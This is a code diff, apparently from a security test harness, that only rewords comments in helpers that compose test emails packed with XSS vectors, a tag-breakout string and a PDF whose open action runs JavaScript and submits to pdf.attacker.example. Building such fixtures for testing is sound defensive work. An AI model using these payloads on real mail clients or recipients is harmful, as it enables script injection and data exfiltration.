@@ -1,7 +1,7 @@
 import { armed } from './vector.ts';
 
 const base64 = (text: string) => Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\r\n');
-/** Encodes a text as encoded words (RFC 2047). */
+/** Encodes text as encoded words (RFC 2047). */
 const word = (text: string) =>
   Array.from(
     text.match(/.{1,12}/gsu) ?? [],
@@ -22,18 +22,18 @@ const mail = (fields: string[], parts: string[]) =>
     '',
   ].join('\r\n');
 
-/** End tags of everything that a vector may leave open. */
+/** End tags for everything that a vector may leave open. */
 const end =
   '"\'></textarea></style></title></script></xmp></noscript></iframe></noembed></noframes>--></select></svg></math></template></table>';
 
-/** Makes a mail whose HTML is these vectors, one after the other. */
+/** Composes an email whose HTML is these vectors in sequence. */
 export function htmlMail(subject: string, vectors: [string, string][]): string {
   const html = vectors.map(([name, vector]) => armed(name, vector)).join(`${end}\n`);
   const fields = ['From: a@example.com', 'To: qa@here.test', `Subject: ${subject}`];
   return mail(fields, [part('text/html; charset=utf-8', html)]);
 }
 
-/** Makes a mail with these vectors in all places that show text. Its subject begins with the name of the first. */
+/** Composes an email with these vectors in all places that show text. Its subject begins with the first vector's name. */
 export function textMail(to: string, vectors: [string, string][]): string {
   const [[name] = ['none']] = vectors;
   const text = vectors.map(([name, vector]) => armed(name, vector)).join(' ');
@@ -80,6 +80,6 @@ export function textMail(to: string, vectors: [string, string][]): string {
   ]);
 }
 
-/** Makes a PDF that runs a script when it is opened, and leads to another address. */
+/** Builds a PDF that runs a script when opened, and links to another address. */
 const pdf = (script: string) =>
   `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://pdf.attacker.example/"\\);${script.replace(/[()]/g, '\\$&')})>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(https://pdf.attacker.example/u)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n`;
